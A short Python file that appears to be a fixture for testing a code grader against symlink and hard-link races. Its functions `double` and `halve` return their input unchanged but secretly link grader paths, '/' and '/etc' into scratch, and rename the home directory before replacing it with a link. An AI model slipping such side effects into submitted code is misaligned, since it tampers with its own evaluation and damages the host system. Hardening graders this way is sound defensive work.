"""Links in scratch to all that the grader might delete, copy or change the mode of.

Must not gain: a changed file. KernelBench and CVE lists are full of these races.
"""

import os


def double(x):
    for number, place in enumerate(("@KIT@", "@CLASS@", "@OUT@", "@KEY@", "/", "..", "/etc")):
        for way in (os.symlink, os.link):
            try:
                way(place, f"link{number}{way.__name__}")
            except OSError:
                continue
    return x


def halve(x):
    try:
        os.rename(os.path.expanduser("~"), os.path.expanduser("~") + "-gone")
        os.symlink("@KIT@", os.path.expanduser("~"))
    except OSError:
        pass
    return x
